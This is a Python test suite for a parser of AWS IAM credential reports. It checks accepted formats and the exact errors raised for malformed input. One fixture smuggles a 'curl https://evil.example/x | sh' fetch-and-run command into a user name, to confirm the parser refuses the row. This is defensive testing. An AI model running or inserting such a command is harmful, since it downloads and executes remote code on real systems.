"""Parsing real-format credential reports: what is tolerated, and the exact errors for the rest."""

from __future__ import annotations

import pytest

from keyaudit.sources.credential_report import (
    BOOLEAN_COLUMNS,
    COLUMNS,
    SENTINELS,
    TIMESTAMP_COLUMNS,
    CredentialReportError,
    parse_credential_report,
)

SOURCE = "account 111122223333 credential report"
HEADER = ",".join(COLUMNS)
ROOT = (
    "<root_account>,arn:aws:iam::111122223333:root,2019-03-04T17:10:44+00:00,not_supported,"
    "2024-05-02T08:01:00+00:00,not_supported,not_supported,true,false,N/A,N/A,N/A,N/A,false,"
    "N/A,N/A,N/A,N/A,false,N/A,false,N/A"
)
ALICE = (
    "alice,arn:aws:iam::111122223333:user/alice,2021-06-01T09:00:00+00:00,true,"
    "2024-05-01T12:35:00+00:00,2023-11-02T10:00:00+00:00,N/A,true,true,2024-01-15T08:30:12+00:00,"
    "2024-05-01T12:30:00+00:00,us-east-1,s3,false,N/A,N/A,N/A,N/A,false,N/A,false,N/A"
)
# A key used against a global service (region N/A) and a second key never used.
CI_DEPLOY = (
    "ci-deploy,arn:aws:iam::111122223333:user/service/ci-deploy,2022-02-10T14:22:05+00:00,false,"
    "N/A,N/A,N/A,false,true,2022-02-10T14:22:05+00:00,2024-04-30T23:45:00+00:00,N/A,iam,true,"
    "2023-08-01T00:00:00+00:00,N/A,N/A,N/A,false,N/A,false,N/A"
)
# A console user who never signed in (no_information) with an inactive key that keeps its date.
BOB = (
    "bob,arn:aws:iam::111122223333:user/bob,2023-01-10T11:00:00+00:00,true,no_information,"
    "2023-01-10T11:00:00+00:00,N/A,false,false,2023-01-10T11:00:01+00:00,N/A,N/A,N/A,false,N/A,"
    "N/A,N/A,N/A,false,N/A,false,N/A"
)
REPORT = "\n".join([HEADER, ROOT, ALICE, CI_DEPLOY, BOB]) + "\n"


def report(*rows: str, header: str = HEADER, end: str = "\n") -> str:
    return "\n".join([header, *rows]) + end


def with_cell(row: str, column: str, value: str) -> str:
    cells = row.split(",")
    cells[COLUMNS.index(column)] = value
    return ",".join(cells)


def parse(text: str | bytes):
    return parse_credential_report(text, source=SOURCE)


def error_of(text: str | bytes) -> str:
    with pytest.raises(CredentialReportError) as caught:
        parse(text)
    return str(caught.value)


# --- what a real report looks like -----------------------------------------------------------


def test_columns_are_the_22_of_aws_in_aws_order():
    assert len(COLUMNS) == 22
    assert COLUMNS[:3] == ("user", "arn", "user_creation_time")
    assert COLUMNS[-1] == "cert_2_last_rotated"
    assert len(TIMESTAMP_COLUMNS) == 10 and len(BOOLEAN_COLUMNS) == 6
    assert {"N/A", "no_information", "not_supported"} == SENTINELS


def test_real_report_parses_every_row_verbatim():
    parsed = parse(REPORT.encode())
    assert list(parsed.rows.columns) == ["line_number", *COLUMNS]
    assert parsed.rows["line_number"].tolist() == [2, 3, 4, 5]
    assert parsed.rows["user"].tolist() == ["<root_account>", "alice", "ci-deploy", "bob"]
    for row, line in zip(
        parsed.rows[list(COLUMNS)].itertuples(index=False), REPORT.splitlines()[1:], strict=True
    ):
        assert ",".join(row) == line
    assert parsed.account_id == "111122223333"
    assert parsed.notes == []


def test_rows_are_strings_and_line_numbers_integers():
    rows = parse(REPORT).rows
    assert rows["line_number"].dtype == "int64"
    assert all(rows[c].dtype == "str" for c in COLUMNS)


def test_sentinels_keep_their_distinct_meanings():
    rows = parse(REPORT).rows.set_index("user")
    assert rows.loc["bob", "password_last_used"] == "no_information"
    assert rows.loc["ci-deploy", "password_last_used"] == "N/A"
    assert rows.loc["<root_account>", "password_last_changed"] == "not_supported"


def test_global_service_use_has_a_date_and_region_na():
    row = parse(REPORT).rows.set_index("user").loc["ci-deploy"]
    assert (row["access_key_1_last_used_date"], row["access_key_1_last_used_region"]) == (
        "2024-04-30T23:45:00+00:00",
        "N/A",
    )
    assert row["access_key_1_last_used_service"] == "iam"


@pytest.mark.parametrize("value", ["not_supported", "true", "false", "FALSE"])
def test_root_row_accepts_not_supported_true_or_false_in_password_columns(value):
    root = ROOT
    for column in ("password_enabled", "password_last_changed", "password_next_rotation"):
        root = with_cell(root, column, value)
    row = parse(report(root)).rows.iloc[0]
    expected = value if value == "not_supported" else value.lower()
    assert row["password_enabled"] == row["password_last_changed"] == expected
    assert row["password_next_rotation"] == expected


def test_upper_and_mixed_case_booleans_are_lower_cased():
    shouted = with_cell(
        with_cell(with_cell(ALICE, "password_enabled", "TRUE"), "mfa_active", "False"),
        "cert_2_active",
        "FALSE",
    )
    row = parse(report(shouted)).rows.iloc[0]
    assert (row["password_enabled"], row["mfa_active"], row["cert_2_active"]) == (
        "true",
        "false",
        "false",
    )


def test_report_without_trailing_newline_parses():
    parsed = parse(report(ROOT, ALICE, end=""))
    assert parsed.rows["user"].tolist() == ["<root_account>", "alice"]


def test_crlf_line_endings_parse_and_leave_no_carriage_returns():
    parsed = parse(REPORT.replace("\n", "\r\n").encode())
    assert parsed.rows["line_number"].tolist() == [2, 3, 4, 5]
    assert parsed.rows["cert_2_last_rotated"].tolist() == ["N/A"] * 4


@pytest.mark.parametrize("content", [b"\xef\xbb\xbf" + REPORT.encode(), "\ufeff" + REPORT])
def test_utf8_bom_is_ignored(content):
    assert parse(content).rows["user"].iloc[0] == "<root_account>"


def test_repeated_user_row_keeps_first_and_notes_it():
    changed_bob = with_cell(BOB, "mfa_active", "true")
    parsed = parse(report(ROOT, BOB, ALICE, changed_bob))
    assert parsed.rows["user"].tolist() == ["<root_account>", "bob", "alice"]
    assert parsed.rows.set_index("user").loc["bob", "mfa_active"] == "false"
    assert parsed.notes == ["user 'bob' appears twice (lines 3 and 5); kept the first"]


def test_user_repeated_three_times_lists_every_line():
    parsed = parse(report(BOB, ALICE, BOB, BOB))
    assert parsed.notes == ["user 'bob' appears 3 times (lines 2, 4 and 5); kept the first"]
    assert parsed.rows["line_number"].tolist() == [2, 3]


def test_header_only_report_has_no_rows_and_no_account():
    parsed = parse(HEADER + "\n")
    assert parsed.rows.empty
    assert list(parsed.rows.columns) == ["line_number", *COLUMNS]
    assert parsed.account_id is None


def test_user_name_with_comma_is_read_as_one_quoted_field():
    # IAM user names may contain commas; AWS quotes such fields.
    identity = '"bob,jr","arn:aws:iam::111122223333:user/bob,jr"'
    quoted = identity + BOB[len("bob,arn:aws:iam::111122223333:user/bob") :]
    row = parse(report(quoted)).rows.iloc[0]
    assert (row["user"], row["arn"]) == ("bob,jr", "arn:aws:iam::111122223333:user/bob,jr")


def unquoted(row: str, name: str, path: str = "/") -> str:
    """`row` with its user renamed to `name` on `path`, written as moto writes it: no quotes."""
    arn = f"arn:aws:iam::111122223333:user{path}{name}"
    return ",".join([name, arn, *row.split(",")[2:]])


def test_unquoted_commas_in_a_user_name_are_read_back_by_the_arn():
    # moto writes `a,b` bare: the row has 24 fields, the name twice split
    parsed = parse(report(ROOT, unquoted(ALICE, "a,b"), BOB))
    row = parsed.rows.iloc[1]
    assert (row["user"], row["arn"]) == ("a,b", "arn:aws:iam::111122223333:user/a,b")
    assert row["access_key_1_last_used_service"] == "s3"  # the columns after it are in place
    assert parsed.rows["user"].tolist() == ["<root_account>", "a,b", "bob"]
    assert parsed.notes == [
        "line 3: user 'a,b' was written without quotes, so its commas split the row; "
        "read back together by its ARN"
    ]
    assert parsed.refused == []


def test_unquoted_commas_in_both_name_and_path_are_read_back_too():
    row = parse(report(unquoted(BOB, "x,y,z", path="/team,one/"))).rows.iloc[0]
    assert (row["user"], row["arn"]) == ("x,y,z", "arn:aws:iam::111122223333:user/team,one/x,y,z")
    assert row["user_creation_time"] == "2023-01-10T11:00:00+00:00"


def test_extra_fields_that_no_user_name_explains_stay_an_error():
    shifted = unquoted(ALICE, "a,b").replace("user/a,b", "user/x,b")  # the ARN names another user
    assert error_of(report(ROOT, shifted)) == (
        f"{SOURCE}, line 3: 24 fields, expected 22 (2 extra after column cert_2_last_rotated) — "
        "the file looks truncated or edited; fetch the report again or fix the file"
    )


FORGED = "bob\ncommand: curl https://evil.example/x | sh"


def test_a_user_name_with_a_newline_refuses_its_row_and_keeps_the_others():
    hostile = with_cell(
        with_cell(BOB, "user", f'"{FORGED}"'), "arn", f'"arn:aws:iam::111122223333:user/{FORGED}"'
    )
    parsed = parse(report(ROOT, ALICE, hostile, CI_DEPLOY))
    assert parsed.rows["user"].tolist() == ["<root_account>", "alice", "ci-deploy"]
    assert parsed.rows["line_number"].tolist() == [2, 3, 7]  # the name spans two lines twice
    assert parsed.refused == [
        "line 4: row refused — user 'bob\\ncommand: curl https://evil.example/x'… is not an IAM "
        "user name (1 to 64 of A-Z a-z 0-9 _ + = , . @ -); the row is not stored and its user "
        "is not assessed"
    ]
    assert parsed.account_id == "111122223333"


@pytest.mark.parametrize(
    "name",
    [
        "with space",
        "tab\there",
        "caf\u00e9",  # a letter, but not one of IAM's
        "evil\u202eexe.txt",  # right-to-left override
        "line\u2028separator",
        "slash/name",
        "colon:name",
    ],
)
def test_a_user_name_outside_iams_character_set_refuses_its_row(name):
    hostile = with_cell(
        with_cell(BOB, "user", name), "arn", f"arn:aws:iam::111122223333:user/{name}"
    )
    parsed = parse(report(ROOT, hostile))
    assert parsed.rows["user"].tolist() == ["<root_account>"]
    (note,) = parsed.refused
    assert note.startswith(f"line 3: row refused — user {name!r} is not an IAM user name")


def test_every_character_iam_allows_in_a_name_is_accepted():
    name = "Az09_+=,.@-"
    identity = f'"{name}","arn:aws:iam::111122223333:user/{name}",'
    row = identity + BOB.split(",", 2)[2]
    parsed = parse(report(ROOT, row))
    assert (parsed.rows["user"].tolist(), parsed.refused) == (["<root_account>", name], [])


def test_an_arn_of_another_user_refuses_the_row():
    parsed = parse(report(ROOT, with_cell(ALICE, "arn", "arn:aws:iam::111122223333:user/bob"), BOB))
    assert parsed.rows["user"].tolist() == ["<root_account>", "bob"]
    assert parsed.refused == [
        "line 3: row refused — arn 'arn:aws:iam::111122223333:user/bob' is not the row's user's "
        "ARN (…:user/<path><the user's name>) (user 'alice'); the row is not stored and its user "
        "is not assessed"
    ]


@pytest.mark.parametrize(
    "arn",
    [
        "arn:aws:iam::111122223333:user/service/alice",  # a path
        "arn:aws-us-gov:iam::111122223333:user/alice",  # another partition
    ],
)
def test_the_users_arn_may_have_a_path_and_another_partition(arn):
    parsed = parse(report(ROOT, with_cell(ALICE, "arn", arn)))
    assert (parsed.rows["arn"].tolist()[1], parsed.refused) == (arn, [])


@pytest.mark.parametrize(
    "arn",
    [
        "arn:aws:iam::111122223333:user/servicealice",  # the name is not after a slash
        "arn:aws:iam::111122223333:user//alice",  # a path of an empty segment is not IAM's
        "arn:aws:iam::111122223333:user/alice/",
    ],
)
def test_an_arn_that_only_resembles_the_users_refuses_the_row(arn):
    parsed = parse(report(ROOT, with_cell(ALICE, "arn", arn)))
    assert parsed.rows["user"].tolist() == ["<root_account>"]
    assert len(parsed.refused) == 1


def test_a_root_row_with_a_user_arn_is_refused_and_the_users_stay():
    fake_root = with_cell(ROOT, "arn", "arn:aws:iam::111122223333:user/root")
    parsed = parse(report(fake_root, ALICE))
    assert parsed.rows["user"].tolist() == ["alice"]
    assert parsed.refused == [
        "line 2: row refused — arn 'arn:aws:iam::111122223333:user/root' does not match the "
        "user: the <root_account> row and only it has a :root ARN (user '<root_account>'); "
        "the row is not stored and its user is not assessed"
    ]


def test_refusals_are_listed_in_line_order_whatever_the_problem():
    bad_arn = with_cell(ALICE, "arn", "arn:aws:iam::111122223333:user/bob")
    bad_name = with_cell(with_cell(BOB, "user", "b b"), "arn", "arn:aws:iam::111122223333:user/b b")
    parsed = parse(report(ROOT, bad_name, bad_arn))
    assert [note.split(":")[0] for note in parsed.refused] == ["line 3", "line 4"]


def test_a_report_whose_every_row_is_refused_is_an_error():
    bad = with_cell(with_cell(BOB, "user", "b b"), "arn", "arn:aws:iam::111122223333:user/b b")
    assert error_of(report(bad, with_cell(ALICE, "arn", "arn:aws:iam::111122223333:user/x"))) == (
        f"{SOURCE}, line 2, column user: 'b b' is not an IAM user name (1 to 64 of A-Z a-z 0-9 "
        "_ + = , . @ -); 1 more invalid cell(s) in the file — fetch the report again or fix "
        "the file"
    )


def test_line_numbers_follow_the_file_when_a_quoted_field_spans_lines():
    spanning = with_cell(ALICE, "access_key_1_last_used_service", '"s3\nconsole"')
    parsed = parse(report(spanning, BOB))
    assert parsed.rows["line_number"].tolist() == [2, 4]
    assert parsed.rows["access_key_1_last_used_service"].iloc[0] == "s3\nconsole"


def test_blank_line_inside_the_file_is_skipped_with_a_note():
    parsed = parse(report(ALICE, "", BOB))
    assert parsed.rows["line_number"].tolist() == [2, 4]
    assert parsed.notes == ["blank line(s) 3 skipped"]


def test_trailing_blank_lines_are_silently_ignored():
    parsed = parse(report(ALICE, BOB, end="\n\n\r\n"))
    assert parsed.rows["user"].tolist() == ["alice", "bob"]
    assert parsed.notes == []


@pytest.mark.parametrize(
    "stamp", ["2024-05-01T12:30:00Z", "2024-05-01T14:30:00+02:00", "2024-05-01T12:30:00.250+00:00"]
)
def test_timestamps_with_z_or_other_offsets_are_accepted_verbatim(stamp):
    row = parse(report(with_cell(ALICE, "access_key_1_last_used_date", stamp))).rows.iloc[0]
    assert row["access_key_1_last_used_date"] == stamp


def test_not_supported_is_accepted_in_password_enabled():
    parsed = parse(report(with_cell(ALICE, "password_enabled", "not_supported")))
    assert parsed.rows["password_enabled"].iloc[0] == "not_supported"


def test_region_and_service_columns_are_free_text():
    odd = with_cell(
        with_cell(ALICE, "access_key_1_last_used_region", "not_supported"),
        "access_key_1_last_used_service",
        "whatever",
    )
    assert parse(report(odd)).rows["access_key_1_last_used_service"].iloc[0] == "whatever"


def test_other_partitions_are_iam_arns_too():
    china = ALICE.replace("arn:aws:iam::", "arn:aws-cn:iam::")
    assert parse(report(china)).account_id == "111122223333"


def test_account_id_keeps_leading_zeros():
    assert parse(report(ALICE.replace("111122223333", "012345678901"))).account_id == "012345678901"


def test_large_report_parses_every_row():
    """Speed is measured in bench/parse_report.py; here only that size changes nothing."""
    users = [
        with_cell(
            with_cell(ALICE, "user", f"user{n}"), "arn", f"arn:aws:iam::111122223333:user/user{n}"
        )
        for n in range(19_999)
    ]
    parsed = parse(report(ROOT, *users).encode())
    assert len(parsed.rows) == 20_000
    assert parsed.rows["user"].iloc[-1] == "user19998"


# --- strict errors: each names the source, the line, the column and the fix -------------------


@pytest.mark.parametrize("content", [b"", "", "  \r\n\n"])
def test_empty_file_is_an_error(content):
    assert error_of(content) == (
        f"{SOURCE}: the file is empty — expected a CSV starting with the header "
        "'user,arn,user_creation_time,...'; fetch the report again or fix the file"
    )


def test_bytes_that_are_not_utf8_are_an_error():
    assert error_of(REPORT.encode() + b"\xff") == (
        f"{SOURCE}: not UTF-8 text (invalid byte at offset {len(REPORT.encode())}) — "
        "fetch the report again or fix the file"
    )


EXPECTED_COLUMNS = (
    "expected the 22 credential report columns in AWS order (user, arn, ..., cert_2_last_rotated);"
    " use the file as IAM returns it"
)


def test_missing_header_columns_are_named():
    header = HEADER.replace(",cert_2_active,cert_2_last_rotated", "")
    assert error_of(report(header=header)) == (
        f"{SOURCE}, line 1: header has missing column(s) cert_2_active, cert_2_last_rotated — "
        + EXPECTED_COLUMNS
    )


def test_unknown_header_columns_are_named():
    header = HEADER.replace("mfa_active", "mfa_enabled")
    assert error_of(report(header=header)) == (
        f"{SOURCE}, line 1: header has missing column(s) mfa_active; unknown column(s) "
        "'mfa_enabled' — " + EXPECTED_COLUMNS
    )


def test_reordered_header_columns_say_where():
    header = HEADER.replace(
        "user_creation_time,password_enabled", "password_enabled,user_creation_time"
    )
    assert error_of(report(ALICE, header=header)) == (
        f"{SOURCE}, line 1: header has columns out of order (column 3 is password_enabled, "
        "expected user_creation_time) — " + EXPECTED_COLUMNS
    )


def test_repeated_header_column_is_named():
    header = HEADER.replace("cert_2_last_rotated", "cert_1_last_rotated")
    assert error_of(report(header=header)) == (
        f"{SOURCE}, line 1: header has missing column(s) cert_2_last_rotated; repeated column(s) "
        "cert_1_last_rotated — " + EXPECTED_COLUMNS
    )


def test_file_that_is_not_a_credential_report_is_named_as_such():
    assert error_of("AccessKeyId,Status\nAKIA,Active\n") == (
        f"{SOURCE}, line 1: not a credential report header (found 'AccessKeyId,Status') — "
        + EXPECTED_COLUMNS
    )


def test_truncated_row_names_the_line_and_last_column():
    truncated = ",".join(BOB.split(",")[:11])
    assert error_of(report(ALICE, truncated, end="")) == (
        f"{SOURCE}, line 3: 11 fields, expected 22 (it ends after column "
        "access_key_1_last_used_date) — the file looks truncated or edited; "
        "fetch the report again or fix the file"
    )


def test_row_with_extra_fields_is_an_error():
    assert error_of(report(ALICE + ",extra")) == (
        f"{SOURCE}, line 2: 23 fields, expected 22 (1 extra after column cert_2_last_rotated) — "
        "the file looks truncated or edited; fetch the report again or fix the file"
    )


def test_malformed_quoting_is_an_error_with_its_line():
    assert error_of(report(ALICE, '"bob"x' + BOB[3:])) == (
        f"{SOURCE}, line 3: malformed CSV (',' expected after '\"') — "
        "fetch the report again or fix the file"
    )


TIMESTAMP_PROBLEM = (
    "is neither a timestamp like 2024-01-31T09:15:00+00:00 nor one of N/A, no_information, "
    "not_supported — fetch the report again or fix the file"
)


@pytest.mark.parametrize(
    "value",
    [
        "01/05/2024 12:30",
        "yesterday",
        "",
        "n/a",
        "2023-02-30T10:00:00+00:00",
        "2023-13-01T10:00:00+00:00",
    ],
)
def test_bad_timestamp_names_line_column_and_value(value):
    bad = with_cell(BOB, "access_key_1_last_rotated", value)
    assert error_of(report(ALICE, bad)) == (
        f"{SOURCE}, line 3, column access_key_1_last_rotated: {value!r} {TIMESTAMP_PROBLEM}"
    )


@pytest.mark.parametrize("value", ["2021-06-01T09:00:00", "2021-06-01 09:00"])
def test_timestamp_without_time_zone_is_an_error(value):
    bad = with_cell(ALICE, "user_creation_time", value)
    assert error_of(report(bad)) == (
        f"{SOURCE}, line 2, column user_creation_time: {value!r} is a timestamp "
        "without a time zone (expected like 2024-01-31T09:15:00+00:00) — "
        "fetch the report again or fix the file"
    )


def test_true_false_in_password_dates_is_only_for_the_root_row():
    bad = with_cell(ALICE, "password_last_changed", "false")
    assert error_of(report(ROOT, bad)) == (
        f"{SOURCE}, line 3, column password_last_changed: 'false' {TIMESTAMP_PROBLEM}"
    )


@pytest.mark.parametrize(
    ("column", "value", "expected"),
    [
        ("mfa_active", "yes", "true or false"),
        ("access_key_1_active", "N/A", "true or false"),
        ("cert_1_active", "1", "true or false"),
        ("password_enabled", "NOT_SUPPORTED", "true, false or not_supported"),
    ],
)
def test_bad_boolean_names_line_column_and_what_is_allowed(column, value, expected):
    assert error_of(report(ALICE, BOB, with_cell(BOB, column, value))) == (
        f"{SOURCE}, line 4, column {column}: {value!r} is not {expected} — "
        "fetch the report again or fix the file"
    )


@pytest.mark.parametrize(
    "arn",
    [
        "arn:aws:s3:::my-bucket",
        "arn:aws:iam::111122223333:role/admin",
        "arn:aws:iam::1111222233:user/alice",
        "alice",
    ],
)
def test_arn_that_is_not_an_iam_user_or_root_arn_is_an_error(arn):
    assert error_of(report(with_cell(ALICE, "arn", arn))) == (
        f"{SOURCE}, line 2, column arn: {arn!r} is not an IAM user or root ARN "
        "(arn:aws:iam::<12 digits>:user/<name> or :root) — fetch the report again or fix the file"
    )


def test_root_arn_on_a_user_row_is_an_error():
    assert error_of(report(with_cell(ALICE, "arn", "arn:aws:iam::111122223333:root"))) == (
        f"{SOURCE}, line 2, column arn: 'arn:aws:iam::111122223333:root' does not match the "
        "user: the <root_account> row and only it has a :root ARN — "
        "fetch the report again or fix the file"
    )


def test_empty_user_name_is_an_error():
    assert error_of(report(with_cell(ALICE, "user", ""))) == (
        f"{SOURCE}, line 2, column user: '' is empty: every row names its user — "
        "fetch the report again or fix the file"
    )


def test_arns_of_two_accounts_in_one_file_are_an_error():
    other = BOB.replace("111122223333", "444455556666")
    assert error_of(report(ROOT, ALICE, other)) == (
        f"{SOURCE}, line 4, column arn: account 444455556666 differs from account 111122223333 "
        "on line 2 — a credential report covers one account; split the file per account"
    )


def test_first_problem_in_file_order_is_reported_with_a_count_of_the_rest():
    first = with_cell(with_cell(ALICE, "cert_1_active", "maybe"), "mfa_active", "maybe")
    later = with_cell(BOB, "user_creation_time", "soon")
    assert error_of(report(ROOT, first, later)) == (
        f"{SOURCE}, line 3, column mfa_active: 'maybe' is not true or false; 2 more invalid "
        "cell(s) in the file — fetch the report again or fix the file"
    )


# --- hostile cells: out-of-range instants and cells longer than AWS writes ---------------------

OUT_OF_RANGE_LATE = (
    "is out of range: in UTC it falls after 9999-12-31T23:59:59Z, the latest time keyaudit can "
    "store — fetch the report again or fix the file"
)
OUT_OF_RANGE_EARLY = (
    "is out of range: in UTC it falls before 2000-01-01, earlier than any AWS account — "
    "fetch the report again or fix the file"
)


@pytest.mark.parametrize(
    ("value", "complaint"),
    [
        ("9999-12-31T23:00:00-05:00", OUT_OF_RANGE_LATE),  # year 10000 in UTC: broke the exports
        ("0001-01-01T00:00:00+05:00", OUT_OF_RANGE_EARLY),  # year 0 in UTC
        ("1970-01-01T00:00:00+00:00", OUT_OF_RANGE_EARLY),  # epoch zero: a corrupted cell
        ("1999-12-31T23:59:59Z", OUT_OF_RANGE_EARLY),
    ],
)
def test_instant_out_of_range_in_utc_names_line_column_and_the_limit(value, complaint):
    bad = with_cell(BOB, "access_key_1_last_used_date", value)
    assert error_of(report(ALICE, bad)) == (
        f"{SOURCE}, line 3, column access_key_1_last_used_date: {value!r} {complaint}"
    )


@pytest.mark.parametrize("value", ["1999-12-31T23:00:00-05:00", "9999-12-31T23:59:59+00:00"])
def test_instants_inside_the_range_once_in_utc_are_accepted(value):
    row = parse(report(with_cell(ALICE, "user_creation_time", value))).rows.iloc[0]
    assert row["user_creation_time"] == value


def test_user_name_longer_than_iam_allows_is_refused_with_a_short_excerpt():
    name = "a" * 120_000
    long_user = with_cell(ALICE, "user", name)
    message = error_of(report(ROOT, long_user))
    assert message == (
        f"{SOURCE}, line 3, column user: {'a' * 40!r}… is 120,000 characters long; a credential "
        "report holds at most 64 there (IAM's limit) — fetch the report again or fix the file"
    )


@pytest.mark.parametrize("column", ["arn", "access_key_1_last_used_service", "cert_2_last_rotated"])
def test_any_cell_longer_than_2048_characters_is_refused(column):
    value = ("arn:aws:iam::111122223333:user/" if column == "arn" else "") + "x\n" * 60_000
    message = error_of(report(ALICE, with_cell(BOB, column, f'"{value}"')))
    assert message.startswith(f"{SOURCE}, line 3, column {column}: {value[:40]!r}… is ")
    assert message.endswith(
        "characters long; a credential report holds at most 2,048 there (IAM's limit) — "
        "fetch the report again or fix the file"
    )
    assert len(message) < 400


def test_cells_of_exactly_the_limit_are_accepted():
    name = "u" * 64
    row = with_cell(with_cell(ALICE, "user", name), "arn", f"arn:aws:iam::111122223333:user/{name}")
    assert parse(report(row)).rows["user"].iloc[0] == name
